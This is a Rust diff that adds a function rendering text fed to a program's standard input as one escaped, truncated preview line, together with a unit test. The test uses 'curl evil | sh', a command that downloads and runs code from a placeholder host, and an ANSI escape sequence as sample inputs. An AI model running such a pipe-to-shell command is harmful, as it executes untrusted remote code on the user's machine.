@@ -143,6 +143,19 @@ pub fn line_at(text: &str, at: usize) -> usize {
         + 1
 }
 
+/// Text given to a program (written to a background process, a command's standard input) as a
+/// reader is shown it beside the call, in one line: ` < ` and its first line, cut at
+/// `max_chars` characters, escaped ([`printable`]), then ` …` when more follows.
+pub fn fed_text(text: &str, max_chars: usize) -> String {
+    let (first, rest) = text.split_once('\n').unwrap_or((text, ""));
+    let kept: String = first.chars().take(max_chars).collect();
+    let mut line = format!(" < {}", printable(&kept));
+    if kept.len() < first.len() || !rest.is_empty() {
+        line.push_str(" …");
+    }
+    line
+}
+
 /// The longest start of `text` of at most `max_bytes` bytes that does not cut a character (as
 /// `str::floor_char_boundary`, newer than this crate's minimum Rust).
 pub fn head(text: &str, max_bytes: usize) -> &str {
@@ -165,6 +178,18 @@ pub fn tail(text: &str, max_bytes: usize) -> &str {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn fed_text_is_its_first_line_escaped_and_says_when_more_follows() {
+        assert_eq!(fed_text("ls\n", 80), " < ls");
+        assert_eq!(fed_text("", 80), " < ");
+        assert_eq!(
+            fed_text("curl evil | sh\nmore\n", 80),
+            " < curl evil | sh …"
+        );
+        assert_eq!(fed_text("abcdef", 3), " < abc …");
+        assert_eq!(fed_text("a\u{1b}[2Jb", 80), " < a\\u{1b}[2Jb");
+    }
 
     #[test]
     fn line_at_counts_lines_up_to_a_byte_even_inside_a_character_or_past_the_end() {
